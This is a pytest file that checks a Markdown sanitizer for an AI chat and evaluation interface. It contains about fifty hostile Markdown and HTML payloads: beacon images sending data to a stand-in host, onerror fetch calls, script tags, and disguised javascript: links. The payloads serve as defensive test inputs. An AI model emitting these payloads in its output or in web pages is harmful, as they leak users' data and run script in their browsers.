"""Model output and stored text made safe to show: hostile strings through
`safe_markdown` and the evaluation views, rendered by a CommonMark parser (raw HTML
on) and checked for anything that could load from a host or run."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from phi4ui.evaluation.compare import Side
from phi4ui.evaluation.store import Rating
from phi4ui.page import eval_views
from phi4ui.page.safe_markdown import (
    IMAGE_NOTE,
    WORD_JOINER,
    code_span,
    escape_markdown,
    safe_markdown,
)
from tests.support.evalhelpers import record_for

markdown_it = pytest.importorskip("markdown_it")
HOST = "198.51.100.7"
# Elements a CommonMark renderer makes from Markdown itself, and the <sub> the Review tab
# writes around the versions; none of them loads anything.
MARKDOWN_ELEMENTS = {"p", "a", "code", "pre", "em", "strong", "ul", "ol", "li", "h1", "h2",
                     "h3", "h4", "h5", "h6", "blockquote", "hr", "br", "table", "thead",
                     "tbody", "tr", "th", "td", "s", "del", "sub"}

HOSTILE = {
    "markdown image": f"![x](http://{HOST}/beacon.png?leak=secret)",
    "image with title": f'![x](http://{HOST}/a.png "title")',
    "image in angle brackets": f"![x](<http://{HOST}/a b.png>)",
    "reference image": f"Look: ![x][r]\n\n[r]: http://{HOST}/ref.png",
    "collapsed reference image": f"![r][]\n\n[r]: http://{HOST}/ref.png",
    "shortcut reference image": f"![R]\n\n[r]: http://{HOST}/ref.png",
    "definition before use": f"[r]: http://{HOST}/ref.png\n\n![x][r]",
    "nested brackets": f"![a [b [c]] d](http://{HOST}/n.png)",
    "image inside a link": f"[![x](http://{HOST}/i.png)](http://{HOST}/page)",
    "image in alt text": f"![a ![b](http://{HOST}/inner.png)](http://{HOST}/outer.png)",
    "protocol-relative image": f"![x](//{HOST}/p.png)",
    "same-origin image": "![x](/logout)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "escaped bang then link": f"\\![x](http://{HOST}/e.png)",
    "image after code span": f"`code` ![x](http://{HOST}/after.png)",
    "img tag": f'<img src="http://{HOST}/b2.png">',
    "upper-case IMG": f"<IMG SRC=http://{HOST}/up.png>",
    "img without quotes or spaces": f"<img/src=//{HOST}/s.png>",
    "img onerror": '<img src=x onerror="fetch(\'//198.51.100.7/\')">',
    "picture and srcset": f'<picture><source srcset="http://{HOST}/s.webp"><img src=a></picture>',
    "svg image": f'<svg><image href="http://{HOST}/svg.png"/></svg>',
    "audio": f'<audio src="http://{HOST}/a.mp3" autoplay></audio>',
    "video with source": f'<video><source src="http://{HOST}/v.mp4"></video>',
    "iframe": f'<iframe src="http://{HOST}/frame"></iframe>',
    "object and embed": f'<object data="http://{HOST}/o"></object><embed src="//{HOST}/e">',
    "link stylesheet": f'<link rel=stylesheet href="http://{HOST}/s.css">',
    "script": f'<script src="http://{HOST}/s.js"></script><script>alert(1)</script>',
    "style url": f"<style>body{{background:url(http://{HOST}/bg.png)}}</style>",
    "inline style url": f'<div style="background:url(http://{HOST}/bg.png)">x</div>',
    "html comment": f"<!-- <img src=http://{HOST}/c.png> -->",
    "html block after blank line": f"text\n\n<div>\n<img src=http://{HOST}/blk.png>\n</div>",
    "javascript link tag": '<a href="javascript:alert(1)">click</a>',
    "javascript markdown link": "[click](javascript:alert(1))",
    "javascript link with entities": "[click](&#106;avascript&#58;alert(1))",
    "javascript link with a tab": "[click](<java\tscript:alert(1)>)",
    "javascript link escaped colon": "[click](javascript\\:alert(1))",
    "javascript reference": "[click][j]\n\n[j]: JavaScript:alert(1)",
    "javascript link after another": "[[x](javascript:a](javascript:b)",
    "vbscript and data links": "[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>)",
    "autolink": f"<http://{HOST}/auto>",
    "javascript autolink": "<javascript:alert(1)>",
    "entity-encoded tag": f"&lt;img src=http://{HOST}/ent.png&gt;",
    "numeric entity tag": f"&#60;img src=http://{HOST}/num.png&#62;",
    "latex block with a tag": f"$$<img src=http://{HOST}/latex.png>$$",
    "mermaid diagram": f'```mermaid\ngraph TD\nA@{{ img: "http://{HOST}/m.png" }}\n```',
    "unclosed fence": f"```\n<img src=http://{HOST}/open.png>",
    "tag inside a code span": f"`<img src=http://{HOST}/span.png>` and <b>bold</b>",
    # Gradio (GFM) ends the address at the backtick and loads this image.
    "code span after a bare address": f"see http://x.y/`<img src=http://{HOST}/gap.png>`",
    "carriage returns": f"a\r<img src=http://{HOST}/cr.png>\r\n![x](http://{HOST}/crlf.png)",
}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def rendered(markdown: str) -> list[tuple[str, dict[str, str | None]]]:
    """The elements a CommonMark renderer with raw HTML on makes of `markdown`."""
    parser = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(
        ["table", "strikethrough"])
    collector = _Collector()
    collector.feed(parser.render(markdown))
    return collector.elements


def assert_inert(markdown: str) -> None:
    for tag, attrs in rendered(markdown):
        assert tag in MARKDOWN_ELEMENTS, f"<{tag}> from {markdown!r}"
        assert set(attrs) <= {"href", "title", "class"}, f"{attrs} from {markdown!r}"
        href = (attrs.get("href") or "").lower()
        assert not href or href.startswith(("http://", "https://", "mailto:")), \
            f"link to {href!r} from {markdown!r}"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_loads_nothing_and_runs_nothing(text: str) -> None:
    safe = safe_markdown(text)
    assert_inert(safe)
    assert safe_markdown(safe) == safe  # applying it again changes nothing


def test_the_check_sees_what_the_raw_text_would_load() -> None:
    """Unchanged, the finding's text makes two images from the other host."""
    raw = f'![x](http://{HOST}/beacon.png) <img src="http://{HOST}/b2.png">'
    sources = [attrs.get("src") for tag, attrs in rendered(raw) if tag == "img"]
    assert sources == [f"http://{HOST}/beacon.png", f"http://{HOST}/b2.png"]
    with pytest.raises(AssertionError, match="<img>"):
        assert_inert(raw)


def test_a_remote_image_becomes_a_line_of_text_with_its_address() -> None:
    safe = safe_markdown(f"Here: ![chart](http://{HOST}/beacon.png?leak=abc) done")
    assert safe == f"Here: {IMAGE_NOTE} `http://{HOST}/beacon.png?leak=abc` done"
    reference = safe_markdown(f"![x][R]\n\n[r]: <http://{HOST}/ref.png>")
    assert reference.startswith(f"{IMAGE_NOTE} `http://{HOST}/ref.png`")


def test_raw_html_shows_as_text() -> None:
    safe = safe_markdown(f'<img src="http://{HOST}/b2.png"> and a<b')
    assert safe == f'<{WORD_JOINER}img src="http://{HOST}/b2.png"> and a<{WORD_JOINER}b'
    assert safe.replace(WORD_JOINER, "") == f'<img src="http://{HOST}/b2.png"> and a<b'


def test_ordinary_markdown_is_left_as_it_is() -> None:
    text = ("# Title\n\nSome **bold**, _em_, `x < y` and a [link](https://example.org).\n\n"
            "- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nif a < b:\n"
            "    print('<tag>')\n```\n\n3 < 4 and 5 > 2; $$x^2$$ > ok\n")
    assert safe_markdown(text) == text.replace("'<tag>'", f"'<{WORD_JOINER}tag>'")


def test_code_keeps_its_images_and_tags_as_written() -> None:
    text = "```markdown\n![alt](pic.png) <br>\n```\n\nInline `![a](b)` too."
    safe = safe_markdown(text)
    assert safe.replace(WORD_JOINER, "") == text
    assert IMAGE_NOTE not in safe


def test_an_open_fence_is_closed_so_that_what_follows_stays_outside() -> None:
    assert safe_markdown("```\ncode") == "```\ncode\n```"
    assert safe_markdown("~~~~\ncode\n~~~") == "~~~~\ncode\n~~~\n~~~~"


def test_mermaid_shows_as_its_source() -> None:
    assert safe_markdown("```mermaid\ngraph TD\n```").startswith("```mermaid-source\n")


@pytest.mark.parametrize("text", ["![" * 50_000, "![a](" * 20_000, "](" * 50_000,
                                  "[" * 50_000 + "]" * 50_000, "```\n" * 30_000, "<a" * 50_000,
                                  "".join("`" * k + " x " for k in range(1, 440)),
                                  "](&#1" * 20_000],
                         ids=["bangs", "open images", "link ends", "brackets", "fences", "tags",
                              "backtick runs", "references"])
def test_long_hostile_text_is_handled_in_linear_time(text: str) -> None:
    """The chat shows every message again on each update: 100,000 characters of the
    worst kinds take well under a second (quadratic scans took minutes)."""
    started = time.perf_counter()
    safe_markdown(text)
    assert time.perf_counter() - started < 3.0


def test_links_to_the_web_stay_links() -> None:
    text = f"[a page](http://{HOST}/page) and [mail](mailto:a@example.org)"
    assert safe_markdown(text) == text
    assert [attrs["href"] for tag, attrs in rendered(safe_markdown(text)) if tag == "a"] == [
        f"http://{HOST}/page", "mailto:a@example.org"]


def test_code_span_outlasts_backticks_and_tags() -> None:
    assert code_span("a`b") == "``a`b``"
    assert code_span("`x`") == "`` `x` ``"
    assert code_span("<img src=x>") == f"`<{WORD_JOINER}img src=x>`"


def test_escape_markdown_shows_text_exactly() -> None:
    text = "*a* _b_ `c` [d](e) ![f](g) <img src=x> $$h$$ &amp; # | ~"
    escaped = escape_markdown(text)
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).render(escaped)
    assert "<img" not in html and "<em>" not in html and "<a " not in html
    assert "$$" not in escaped  # Gradio renders $$...$$ into the page as it is
    assert "&lt;img src=x&gt;" in html and "&amp;amp;" in html
    assert escape_markdown(f"http://{HOST}/x") == "http\\://198\\.51\\.100\\.7/x"  # not a link


# ---------------------------------------------------------------- evaluation views

def hostile_record() -> object:
    record = record_for(f"Show me ![q](http://{HOST}/question.png)",
                        answer=f"![x](http://{HOST}/beacon.png) <img src=http://{HOST}/b2.png>"
                               f" [site](http://{HOST}/page)")
    turns = [{"role": "user<img src=//198.51.100.7/role.png>",
              "parts": [{"type": "image", "name": "a`<img src=//198.51.100.7/n.png>`.png",
                         "sha256": "0" * 64},
                        {"type": "text", "text": "$$<img src=//198.51.100.7/t.png>$$"}]}]
    notes = ("note <img src=//198.51.100.7/note.png>",)
    return type(record)(**{**record.__dict__, "turns": turns, "notes": notes,
                           "origin": "chat<script>", "system": "<style>x</style>"})


def test_record_details_escape_everything_stored() -> None:
    rating = Rating("a1", -1, comment=f"![c](http://{HOST}/comment.png)",
                    tags=(f"<img src=http://{HOST}/tag.png>", "`x"))
    vote = Rating("a1", 1, versus_id="b`<img src=//h/v.png>")
    details = eval_views.record_details(hostile_record(), [rating, vote])  # type: ignore[arg-type]
    assert_inert(details)
    assert f"{IMAGE_NOTE} `http://{HOST}/beacon.png`" in details
    assert "$$" not in details


def test_compare_answers_are_made_safe_while_streaming_and_after() -> None:
    text = f"![x](http://{HOST}/beacon.png)\n```\n<img src=http://{HOST}/b.png>"
    streaming = eval_views.side_answer(Side(label="left", text=text))
    assert_inert(streaming)
    assert streaming.endswith("▌\n```")
    error = eval_views.side_answer(Side(label="left", error=f"<img src=http://{HOST}/e.png>"))
    assert_inert(error)
